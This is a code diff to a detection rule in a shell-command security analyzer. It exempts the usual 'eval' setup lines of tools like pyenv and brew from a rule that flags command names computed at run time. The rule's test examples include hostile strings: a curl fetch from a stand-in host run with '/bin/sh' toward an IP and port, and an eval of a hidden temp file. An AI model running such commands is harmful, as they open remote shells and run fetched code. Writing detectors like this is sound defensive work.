@@ -1,6 +1,7 @@
 import { ruleAnalyzer, type Rule } from '../rule.js';
 import { shellQuote } from '../toolcall.js';
-import { hasInvisible, showInvisible } from '../shell/names.js';
+import { baseName, hasInvisible, showInvisible } from '../shell/names.js';
+import type { SimpleCommand } from '../shell/types.js';
 
 const nested = (layers: number): string => {
   let s = 'ls';
@@ -9,6 +10,18 @@ const nested = (layers: number): string => {
 };
 
 /** Signals about the line itself: what could not be parsed, decoded or bounded is worth a look. */
+/** Tools whose output is shell setup that their docs say to eval (`eval "$(pyenv init -)"`, `eval "$(brew shellenv)"`). */
+const SETUP_TOOLS = new Set(['brew', 'pyenv', 'rbenv', 'nodenv', 'goenv', 'jenv', 'plenv', 'direnv', 'starship', 'zoxide', 'fnm', 'mise', 'rtx', 'conda', 'micromamba', 'opam', 'atuin', 'mcfly', 'navi', 'thefuck', 'ssh-agent', 'gpg-agent', 'keychain', 'fzf', 'rustup', 'asdf', 'devbox', 'luarocks', 'dircolors', 'gdircolors', 'lesspipe', 'minikube', 'docker-machine']);
+const SETUP_WORDS = new Set(['init', 'shellenv', 'hook', 'env', 'activate', 'shell', 'path', 'docker-env', '-s', '--alias', '--bash', '--zsh', '--fish', '-b', '-c']);
+
+/** The command an eval runs is the output of a shell-setup tool: `$(pyenv init -)`, `$(/opt/homebrew/bin/brew shellenv)`. */
+function shellSetupOutput(c: SimpleCommand): boolean {
+  const w = c.argv[0] ?? '';
+  if (c.origin !== 'eval' || !w.startsWith('$(') || !w.endsWith(')') || w.length > 256) return false;
+  const [tool, ...rest] = w.slice(2, -1).trim().split(/\s+/);
+  return SETUP_TOOLS.has(baseName(tool ?? '')) && rest.some((x) => SETUP_WORDS.has(x));
+}
+
 export const PARSER_RULES: readonly Rule[] = [
   {
     id: 'PX-PARSE-001', name: 'unparseable-command', score: 20, tactic: 'defense_evasion', technique: 'T1027',
@@ -31,8 +44,8 @@ export const PARSER_RULES: readonly Rule[] = [
   {
     id: 'PX-PARSE-004', name: 'dynamic-command-name', score: 30, tactic: 'defense_evasion', technique: 'T1027.010',
     message: 'The command name is computed at run time and could not be resolved', why: 'Building the name of the program to run from variables or substitutions hides it from review.',
-    test: (c) => (c.dynamic[0] && !/^\$\{?(EDITOR|VISUAL|PAGER|SHELL|CC|CXX|PYTHON|NODE|NPM|MAKE|BROWSER|GIT|JAVA|JAVA_HOME|GOPATH|HOME|PWD|CARGO|DOCKER|KUBECTL)\b/.test(c.argv[0] ?? '') && !/^"?\$\{?[0-9@*]/.test(c.argv[0] ?? '') && !/^\$\{?[a-z_]+\}?$/.test(c.argv[0] ?? '') ? c.argv[0] : undefined),
-    examples: { fire: ['$(curl -s http://x.example/n) -e /bin/sh 1.2.3.4 4444', '`cat /tmp/n` --x'], quiet: ['$EDITOR README.md', '"$@"', 'for f in *; do $cmd "$f"; done'] },
+    test: (c) => (shellSetupOutput(c) ? undefined : c.dynamic[0] && !/^\$\{?(EDITOR|VISUAL|PAGER|SHELL|CC|CXX|PYTHON|NODE|NPM|MAKE|BROWSER|GIT|JAVA|JAVA_HOME|GOPATH|HOME|PWD|CARGO|DOCKER|KUBECTL)\b/.test(c.argv[0] ?? '') && !/^"?\$\{?[0-9@*]/.test(c.argv[0] ?? '') && !/^\$\{?[a-z_]+\}?$/.test(c.argv[0] ?? '') ? c.argv[0] : undefined),
+    examples: { fire: ['eval "$(cat /tmp/.cfg)"', '$(curl -s http://x.example/n) -e /bin/sh 1.2.3.4 4444', '`cat /tmp/n` --x'], quiet: ['eval "$(/opt/homebrew/bin/brew shellenv)"', 'eval "$(pyenv init -)" && pyenv install 3.12.6', 'eval "$(ssh-agent -s)"', '$EDITOR README.md', '"$@"', 'for f in *; do $cmd "$f"; done'] },
   },
   {
     id: 'PX-PARSE-005', name: 'invisible-characters-in-command', score: 40, tactic: 'defense_evasion', technique: 'T1036',
